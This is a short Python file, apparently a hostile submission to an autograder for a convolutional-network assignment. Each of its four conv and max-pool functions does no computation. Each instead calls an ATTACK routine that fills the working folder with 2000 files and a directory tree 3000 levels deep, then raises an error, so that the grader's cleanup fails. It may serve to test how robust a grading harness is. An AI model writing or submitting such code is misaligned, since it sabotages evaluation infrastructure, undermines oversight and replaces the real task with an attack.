"""Attack: leave a directory tree 3000 levels deep (and a few thousand files) in the working folder, so
that the grader's cleanup recurses past its limit or runs out of path length."""
import os


def ATTACK(n=1):
    for k in range(2000):
        try:
            open(f"f{k}", "w").close()
        except OSError:
            break
    for _ in range(3000):
        try:
            os.mkdir("d")
            os.chdir("d")
        except OSError:
            break
    raise RuntimeError("left a deep tree behind")


def conv_forward_naive(x, w, b, conv_param):
    return ATTACK(2)


def conv_backward_naive(dout, cache):
    return ATTACK(3)


def max_pool_forward_naive(x, pool_param):
    return ATTACK(2)


def max_pool_backward_naive(dout, cache):
    return ATTACK(1)
